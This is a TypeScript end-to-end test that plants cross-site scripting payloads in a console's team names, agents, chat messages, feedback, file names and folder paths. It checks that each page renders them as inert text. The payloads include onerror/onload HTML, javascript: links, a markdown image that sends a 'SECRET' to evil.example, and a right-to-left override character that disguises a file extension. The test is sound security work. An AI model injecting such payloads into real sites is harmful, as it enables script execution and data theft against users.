import { mkdtemp, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { expect, inject, test } from 'vitest';
import { addText } from './add-text.ts';
import { joinAccount } from '../sign-in.ts';
import { keepPicture, openSite } from './browser.ts';
import type { Site } from './browser.ts';
import { addressesOf, consolePages } from './console-pages.ts';
import { addPerson, newOrganisation, openConsole } from './console.ts';
import type { Organisation } from './console.ts';
import { visit } from './visit.ts';

// Hostile names and texts of other people, on each page that shows them.

const slowly = { timeout: 60_000 };
const evil = 'https://evil.example/?q=SECRET';
const markup = `<img src=x onerror=hit=1><svg onload=hit=1> ![a](${evil}) [b](javascript:hit=1)`;
/** U+202E reverses the text behind it unless isolated: "exe.pdf" then looks like "fdp.exe". */
const turned = '\u202eexe.pdf';
const long = 'W'.repeat(300);

const planted = [
  '[onerror], [onload], main img:not([src^="blob:"], [src^="/assets/"]), main iframe, main object, main math',
  `[href*="evil.example"], [src*="evil.example"], [href^="javascript"]`,
].join(', ');

const folderPath = `old/<svg onload=hit=1>${'W'.repeat(60)}`;

async function plant(site: Site, organisation: Organisation) {
  const { team, call, owner } = organisation;
  const name = (before: string) => `${before} ${markup}${long}`.slice(0, 100);
  await call('PATCH', `/v1/teams/${team.id}`, { name: name('T') });
  await call('POST', '/v1/teams', { name: name('Below'), parentId: team.id });
  await call('POST', '/v1/keys', { name: name('K') });
  await call('POST', '/v1/agents', { name: name('A'), instructions: markup });
  await call('POST', '/v1/workflows', {
    name: name('W'),
    description: markup,
    command: 'planted',
    instructions: markup,
    visibility: 'team',
  });
  await call('POST', '/v1/webhooks', {
    url: `https://example.com/${'x'.repeat(200)}`,
    eventTypes: ['document.ready'],
  });
  const correct = async (): Promise<string> => {
    const { chat } = await call('POST', '/v1/chats', {});
    const asked = { text: `Where is the zeppelin? ${markup}` };
    const { message } = await call('POST', `/v1/chats/${chat.id}/messages`, asked);
    const path = `/v1/chats/${chat.id}/messages/${message.id}/feedback`;
    const correctedResponse = markup + long;
    const feedback = { isUpvoted: false, comment: markup + long, correctedResponse };
    return (await call('POST', path, feedback)).training.id;
  };
  await correct();
  await call('POST', `/v1/training/${await correct()}/approve`, {});
  const { chat } = await call('POST', '/v1/chats', {});
  await call('POST', `/v1/chats/${chat.id}/messages`, { text: `Xqzvw plomkt? ${markup}${long}` });
  await joinAccount(site.server, owner.userId);
  const { gaps } = await call('GET', '/v1/insights/gaps');
  const { hash: questionHash } = gaps[0].questions[0];
  const passedOn = { questionHash, userId: owner.userId, note: markup + long };
  await call('POST', '/v1/insights/gaps/experts', passedOn);
  await call('PUT', '/v1/golden-questions', {
    questions: [{ question: `${markup}${long}`, documents: [{ name: 'mill.md' }] }],
  });
  return { sourceId: await plantSource(call) };
}

/** Adds a source with a file, whose names have no slashes: they would be folders. */
async function plantSource(call: Organisation['call']): Promise<string> {
  const name = (before: string) => `${before} <img src=x onerror=hit=1>${long}`.slice(0, 100);
  const path = await mkdtemp(join(inject('folder'), '<img src=x onerror=hit=1>'));
  await writeFile(join(path, `${name('file')}.md`), markup);
  const made = { kind: 'folder', name: name('S'), settings: { path } };
  const { source } = await call('POST', '/v1/sources', made);
  await call('POST', `/v1/sources/${source.id}/run?wait=true`);
  return source.id;
}

async function expectText(page: Page, path: string, faults: string[]): Promise<void> {
  const elements = await page.locator(planted).evaluateAll((all) => all.map((it) => it.outerHTML));
  expect([path, elements]).toEqual([path, []]);
  expect(await page.evaluate(`'hit' in window`)).toBe(false);
  for (const width of [320, 1280]) {
    await page.setViewportSize({ width, height: 800 });
    const wide = await page.locator('html').evaluate((it) => it.scrollWidth);
    expect(wide, `${path} is wider than its window`).toBeLessThanOrEqual(width);
    await keepPicture(page, `planted-${width}-${path.replaceAll(/[^a-z]+/g, '-')}`);
  }
  expect(faults).toEqual([]);
}

test('S18: markup in names and texts is shown as text and loads nothing, on every page in two widths', async () => {
  const site = await openSite();
  const organisation = await newOrganisation(site);
  await addPerson(site, organisation, {
    email: `eve-${organisation.team.id.slice(-8)}@example.com`,
    firstName: '<img src=x onerror=hit=1>',
    lastName: `${turned}${'W'.repeat(80)}`,
    role: 'member',
  });
  const { sourceId } = await plant(site, organisation);
  const documentId = await addText(site, organisation, {
    name: `<img src=x onerror=hit=1>${turned}${'W'.repeat(100)}.md`,
    folderPath,
    text: `# Zeppelin ${markup}\n\nThe zeppelin is moored at the oak. ${markup} ${long}\n`,
  });
  const { page, faults } = await openConsole(site, organisation.owner.email);
  const folder = `/documents?folder=${encodeURIComponent(folderPath)}`;
  const showing = addressesOf(
    consolePages.filter(({ showsTexts }) => showsTexts),
    documentId,
  );
  const source = `/settings/sources/${sourceId}`;
  for (const path of [...addressesOf(consolePages, documentId), folder, source]) {
    await visit(page, path);
    const text = await page.locator('main').textContent();
    if (path === folder || path === source || showing.includes(path))
      expect([path, text]).toEqual([path, expect.stringContaining('hit=1')]);
    await expectText(page, path, faults);
  }
  await visit(page, '/');
  await page.locator('.composer textarea').fill(`Where is the zeppelin moored? ${markup}`);
  await page.keyboard.press('Enter');
  await page.locator('.answer .source').first().click(slowly);
  await page.locator('mark').first().waitFor(slowly);
  await expectText(page, 'an answer', faults);
});
